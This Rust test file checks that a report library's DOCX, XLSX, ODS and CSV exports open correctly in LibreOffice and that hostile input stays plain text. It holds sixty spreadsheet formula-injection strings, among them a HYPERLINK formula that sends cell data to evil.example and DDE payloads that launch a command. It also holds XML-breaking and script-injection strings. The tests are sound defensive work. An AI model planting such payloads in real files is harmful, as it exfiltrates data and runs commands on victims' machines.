//! An office suite opens the reports: the words in their order, the same cells, and no formula made from a text.
//!
//! LibreOffice starts once for each form it saves in, for a start takes seconds.

#![expect(
    clippy::unwrap_used,
    reason = "a test stops where what it needs is not there"
)]

use std::path::PathBuf;

use plenum_core::time::Timestamp;
use plenum_report::model::{Document, Labels, Part, Passage, Run, Section, Table, plain};
use plenum_report::tables::{Cell, Column, Sheet, Tables};
use plenum_report::{
    Catalogue, Order, Profile, ReportKind, archive, csv, docx, ods, outcome, xlsx,
};
use plenum_tests::reports::{office, read, seoul_reports};
use plenum_tests::seoul;

/// The words of a text, without white space and marks of direction: an office suite breaks lines its own way.
fn squeezed(text: &str) -> String {
    text.chars()
        .filter(|c| !c.is_whitespace() && !matches!(*c, '\u{feff}' | '\u{200e}'))
        .collect()
}

/// Every run of a document in reading order.
fn runs(document: &Document) -> Vec<String> {
    fn passage(passage: &Passage, out: &mut Vec<String>) {
        out.extend(passage.lines.iter().map(|line| plain(line)));
    }
    fn parts(section: &Section, out: &mut Vec<String>) {
        out.push(plain(&section.heading));
        for part in &section.parts {
            match part {
                Part::Paragraph(text) | Part::Quote(text) => passage(text, out),
                Part::List(items) => items.iter().for_each(|item| passage(item, out)),
                Part::Facts(facts) => {
                    for fact in facts {
                        out.push(fact.term.text.clone());
                        passage(&fact.is, out);
                    }
                }
                Part::Table(table) => {
                    out.push(table.caption.text.clone());
                    out.extend(table.head.iter().map(|run| run.text.clone()));
                    table
                        .rows
                        .iter()
                        .flatten()
                        .for_each(|cell| passage(cell, out));
                }
                Part::Figure(figure) => out.push(figure.caption.text.clone()),
                Part::Section(section) => parts(section, out),
            }
        }
    }
    let mut out = Vec::new();
    for section in &document.sections {
        parts(section, &mut out);
    }
    out
}

#[test]
fn s02_a_word_processor_reads_every_word_in_the_order_of_the_model() {
    let out = tempfile::tempdir().unwrap();
    let files: Vec<PathBuf> = ["en", "ar"]
        .iter()
        .map(|lang| seoul_reports().join(format!("report-full.full.{lang}.docx")))
        .collect();
    office(&files, "txt:Text (encoded):UTF8", out.path());

    let verified = archive::verify(seoul().json.as_bytes()).unwrap();
    let as_of = verified
        .commits
        .last()
        .map_or(Timestamp(0), |commit| commit.at);
    for lang in ["en", "ar"] {
        let text = std::fs::read_to_string(out.path().join(format!("report-full.full.{lang}.txt")));
        let text = squeezed(&text.unwrap());
        let words = Catalogue::of(lang).unwrap();
        let order = Order::full(as_of);
        let document = outcome::document(&verified.records, &verified.head, &words, order);
        let runs = runs(&document);
        // The table of contents repeats the headings before the first part.
        let contents: usize = document
            .sections
            .iter()
            .map(|s| squeezed(&plain(&s.heading)).len())
            .sum();
        let start = text.find(&squeezed(&document.labels.contents)).unwrap();
        let mut rest = text
            .get(start + squeezed(&document.labels.contents).len() + contents..)
            .unwrap();
        for run in &runs {
            let wanted = squeezed(run);
            let place = rest.find(&wanted);
            let place =
                place.unwrap_or_else(|| panic!("{lang}: `{run}` is not where it should be"));
            rest = rest.get(place + wanted.len()..).unwrap();
        }
        assert!(runs.len() > 1_500, "{} lines", runs.len());
    }
}

#[test]
fn a_spreadsheet_program_finds_the_cells_of_the_csv_in_both_workbooks() {
    let out = tempfile::tempdir().unwrap();
    let files: Vec<PathBuf> = ["xlsx", "ods"]
        .iter()
        .map(|form| {
            // One name each, for the program names what it saves after what it opened.
            let copy = out.path().join(format!("seoul-{form}.{form}"));
            std::fs::write(&copy, read(&format!("report-full.full.en.{form}"))).unwrap();
            copy
        })
        .collect();
    let saved = out.path().join("saved");
    // Comma, quotes, UTF-8, values as they are stored, every sheet in a file of its own.
    let form = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,false,false,false,false,-1";
    office(&files, form, &saved);

    let verified = archive::verify(seoul().json.as_bytes()).unwrap();
    let as_of = verified
        .commits
        .last()
        .map_or(Timestamp(0), |commit| commit.at);
    let words = Catalogue::english();
    let tables = outcome::tables(
        &verified.records,
        &verified.head,
        &words,
        Order::full(as_of),
    );
    let mut numbers = 0;
    for sheet in &tables.sheets {
        for form in ["xlsx", "ods"] {
            let path = saved.join(format!("seoul-{form}-{}.csv", sheet.title));
            let mut reader = ::csv::ReaderBuilder::new()
                .flexible(true)
                .from_path(&path)
                .unwrap_or_else(|e| panic!("{}: {e}", path.display()));
            let rows: Vec<_> = reader.records().map(Result::unwrap).collect();
            assert_eq!(rows.len(), sheet.rows.len(), "{form}: {}", sheet.title);
            for (row, saved) in sheet.rows.iter().zip(rows) {
                for (cell, saved) in row.iter().zip(saved.iter()) {
                    assert_eq!(saved, cell.plain(), "{form}: {}", sheet.title);
                    numbers += usize::from(cell.number().is_some());
                }
            }
        }
    }
    assert!(numbers > 1_000, "{numbers} numbers");
}

/// Beginnings that some spreadsheet takes for a formula, each before a few endings.
fn hostile() -> Vec<String> {
    let endings = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "{=1+1}",
    ];
    let beginnings = [
        "", "\t", "\r", " ", "\n", "\0", "'", "\u{feff}", "\u{202e}", "\u{a0}",
    ];
    let pairs = beginnings
        .iter()
        .flat_map(|b| endings.iter().map(move |e| format!("{b}{e}")));
    pairs.collect()
}

fn tables(texts: &[String]) -> Tables {
    Tables {
        lang: "en".to_owned(),
        title: "=1+1".to_owned(),
        day: "2014-03-14".parse().unwrap(),
        sheets: vec![Sheet {
            name: "entries",
            title: "=1+1".to_owned(),
            columns: vec![
                Column::new("=1+1".to_owned(), 20),
                Column::new("n".to_owned(), 5),
            ],
            rows: texts
                .iter()
                .zip(1..)
                .map(|(text, n)| vec![Cell::Text(text.clone()), Cell::Whole(n)])
                .collect(),
            chart: None,
        }],
    }
}

#[test]
fn no_text_becomes_a_formula_in_any_spreadsheet() {
    let texts = hostile();
    assert_eq!(texts.len(), 60);
    let out = tempfile::tempdir().unwrap();
    let tables = tables(&texts);
    let file = |name: &str, bytes: Vec<u8>| {
        let path = out.path().join(name);
        std::fs::write(&path, bytes).unwrap();
        path
    };
    let files = [
        file("a.xlsx", xlsx::write(&tables).unwrap()),
        file("b.ods", ods::write(&tables).unwrap()),
        file("c.csv", csv::one(&tables.sheets[0]).into_bytes()),
    ];
    let saved = out.path().join("saved");
    office(&files, "fods", &saved);

    for name in ["a", "b", "c"] {
        let flat = std::fs::read_to_string(saved.join(format!("{name}.fods"))).unwrap();
        assert!(!flat.contains("table:formula="), "{name}");
        // The texts are there, as texts.
        assert!(flat.matches("HYPERLINK").count() >= 10, "{name}");
        let typed = flat.matches("office:value-type=\"string\"").count();
        assert!(typed >= 60, "{name}: {typed} texts");
    }
}

#[test]
fn hostile_documents_open_whole() {
    let word = "w".repeat(20_000);
    let cell = |text: &str| Passage::from(Run::new("en", text));
    let rows =
        (1..=10_000).map(|n| vec![cell(&format!("row {n}")), cell("</w:tbl>\u{202e}&\u{0}]]>")]);
    let document = Document {
        lang: "ar".to_owned(),
        report: ReportKind::Full,
        profile: Profile::Full,
        title: Run::new("fa", "\u{202e}</w:t><script>alert(1)</script>").into(),
        kind: Run::new("ar", word.clone()),
        mark: None,
        facts: Vec::new(),
        sections: vec![Section {
            anchor: "one".to_owned(),
            heading: vec![Run::new("ko", "\u{b}제목 & <w:p>")],
            parts: vec![
                Part::Quote(Run::new("en", word).into()),
                Part::Table(Table {
                    caption: Run::new("en", "\"><caption"),
                    head: vec![Run::new("en", "No."), Run::new("en", "Text")],
                    rows: rows.collect(),
                }),
            ],
        }],
        foot: Vec::new(),
        day: "2014-03-14".to_owned(),
        labels: Labels {
            contents: "المحتويات".to_owned(),
        },
    };
    let out = tempfile::tempdir().unwrap();
    let path = out.path().join("hostile.docx");
    std::fs::write(&path, docx::write(&document).unwrap()).unwrap();
    office(&[path], "txt:Text (encoded):UTF8", out.path());

    let text = std::fs::read_to_string(out.path().join("hostile.txt")).unwrap();
    assert!(text.contains("row 10000") && text.contains("</w:tbl>&]]>"));
    assert!(text.contains("<script>alert(1)</script>") && text.contains("제목 & <w:p>"));
    assert!(!text.contains('\u{202e}'));
}
